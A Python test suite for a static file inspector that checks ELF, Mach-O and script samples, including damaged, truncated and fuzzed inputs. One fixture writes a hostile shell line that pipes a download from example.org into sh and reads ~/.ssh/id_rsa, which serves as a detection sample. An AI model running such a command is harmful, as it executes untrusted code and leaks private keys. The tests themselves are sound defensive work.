"""What a program is, seen without running it; a broken or hostile file is no danger."""

import hashlib
import struct
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sandbox import formats, inspect
from sandbox.formats import read

CODE_SIGNATURE, LOAD_DYLIB, SYMTAB, DYSYMTAB = 0x1D, 0xC, 0x2, 0xB


def test_an_elf_program(compiled: Path) -> None:
    found = inspect(compiled)
    assert found.format == "ELF 64-bit"
    assert found.size == compiled.stat().st_size
    assert found.sha256 == hashlib.sha256(compiled.read_bytes()).hexdigest()
    assert "libc.so.6" in found.libraries
    assert "connect" in found.imports["connects"]
    assert "socketpair" in read(compiled).imports
    assert "main" not in read(compiled).imports
    assert "ptrace" in found.imports["looks into processes"]
    assert "127.0.0.1" in found.strings["addresses"]
    assert "/etc/shadow" in found.strings["paths"]
    assert "HOSTILE_SECRET" in found.strings["secrets"]
    assert found.signature is None


@pytest.mark.parametrize(
    ("sections", "remark"),
    [(2**63, "its section headers are broken"), (0, "it has no section headers")],
)
def test_an_elf_program_whose_sections_are_damaged(
    compiled: Path, tmp_path: Path, sections: int, remark: str
) -> None:
    """It runs all the same: the loader does not look at them."""
    whole = bytearray(compiled.read_bytes())
    whole[0x28:0x30] = struct.pack("<Q", sections)
    damaged = tmp_path / "damaged"
    damaged.write_bytes(whole)
    damaged.chmod(0o755)
    found, before = inspect(damaged), inspect(compiled)
    assert found.remarks == (f"{remark}: that hinders tools, not whoever runs it",)
    assert (found.format, found.architectures) == (before.format, before.architectures)
    assert found.libraries == before.libraries == ("libc.so.6",)
    assert found.imports == before.imports
    assert before.remarks == ()
    assert subprocess.run([damaged, "exit42"], check=False).returncode == 42


def test_an_elf_program_of_which_only_the_first_header_is_left(
    compiled: Path, tmp_path: Path
) -> None:
    cut = tmp_path / "cut"
    cut.write_bytes(compiled.read_bytes()[:64])
    found = inspect(cut)
    assert (found.format, found.libraries) == ("ELF 64-bit", ())
    assert found.remarks[0].startswith("broken headers: ")


def test_headers_without_an_end_are_given_up(
    compiled: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(formats, "MOST_READS", 400)
    assert read(compiled).remarks == ("broken headers: there is no end of them",)


def macho(path: Path, *, signed: bool) -> Path:
    """A program of macOS: a header, a library, and a symbol that comes from elsewhere."""
    name = b"/usr/lib/libSystem.B.dylib\0\0\0\0\0\0"
    strings = b"\0_connect\0"
    commands = [
        struct.pack("<IIIIII", LOAD_DYLIB, 24 + len(name), 24, 2, 1, 1) + name,
        struct.pack("<II" + 18 * "I", DYSYMTAB, 80, 0, 0, 0, 0, 0, 1, *12 * [0]),
    ]
    commands += [struct.pack("<IIII", CODE_SIGNATURE, 16, 0, 0)] if signed else []
    size = sum(map(len, commands)) + 24
    start = 32 + size
    commands.append(struct.pack("<IIIIII", SYMTAB, 24, start, 1, start + 16, len(strings)))
    header = struct.pack("<IIIIIIII", 0xFEEDFACF, 0x0100000C, 0, 2, len(commands), size, 0, 0)
    symbol = struct.pack("<IBBHQ", 1, 1, 0, 0, 0)
    path.write_bytes(header + b"".join(commands) + symbol + strings)
    return path


@pytest.mark.parametrize("signed", [True, False])
def test_a_macho_program(tmp_path: Path, signed: bool) -> None:
    found = inspect(macho(tmp_path / "server", signed=signed))
    assert (found.format, found.architectures) == ("Mach-O", ("ARM64",))
    assert found.libraries == ("/usr/lib/libSystem.B.dylib",)
    assert found.imports == {"connects": ["connect"]}
    assert found.signature is not None
    if sys.platform != "darwin":
        assert found.signature.startswith("there is one" if signed else "none")


def test_a_script_and_what_is_nothing(tmp_path: Path) -> None:
    script = tmp_path / "script"
    script.write_text("#!/bin/sh\ncurl https://example.org/x | sh; cat ~/.ssh/id_rsa\n")
    found = inspect(script)
    assert found.format == "script"
    assert found.remarks == ("not marked as a program that can be run",)
    assert "https://example.org/x" in found.strings["addresses"]
    assert "~/.ssh/id_rsa" in found.strings["paths"]
    (tmp_path / "empty").touch()
    assert inspect(tmp_path / "empty").format == "unknown"


@settings(max_examples=30, deadline=None)
@given(st.data())
def test_a_file_made_to_break_the_reader(compiled: Path, data: st.DataObject) -> None:
    whole = bytearray(compiled.read_bytes()[:4096])
    for _ in range(data.draw(st.integers(1, 8))):
        whole[data.draw(st.integers(4, len(whole) - 1))] = data.draw(st.integers(0, 255))
    broken = compiled.parent / "broken"
    broken.write_bytes(whole)
    assert read(broken).format.startswith("ELF")


@pytest.mark.parametrize("text", [b"a-", b"a.", b"-", b"a" * 64 + b".", b"private", b"/home/a"])
def test_text_made_to_slow_the_search_down(tmp_path: Path, text: bytes) -> None:
    slow = tmp_path / "slow"
    slow.write_bytes(text * ((4 << 20) // len(text)))
    start = time.process_time()
    inspect(slow)
    assert time.process_time() - start < 2.0


def test_a_macho_program_that_ends_too_early(tmp_path: Path) -> None:
    whole = macho(tmp_path / "whole", signed=True).read_bytes()
    cut = tmp_path / "cut"
    for size in range(4, len(whole), 7):
        cut.write_bytes(whole[:size])
        assert read(cut).format == "Mach-O"
    cut.write_bytes(whole[:20])
    assert inspect(cut).remarks[0].startswith("broken headers: ")
